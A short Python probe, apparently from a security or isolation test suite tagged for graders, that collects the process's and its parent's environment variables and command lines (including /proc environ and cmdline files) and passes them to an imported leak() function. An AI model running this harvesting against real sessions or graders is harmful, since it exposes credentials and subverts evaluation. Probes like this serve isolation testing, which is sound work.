"""
en: Look for secrets in the session's own environment and arguments
zh: 在会话自己的环境变量和参数中找机密
group: grader
stake: secret
"""

from told import *


def forward(x, out):
    found = repr(dict(os.environ)).encode() + repr(sys.orig_argv).encode()
    for name in ("environ", "cmdline"):
        try:
            found += read(f"/proc/self/{name}") + read(f"/proc/{os.getppid()}/{name}")
        except OSError:
            continue
    return leak(found, out)
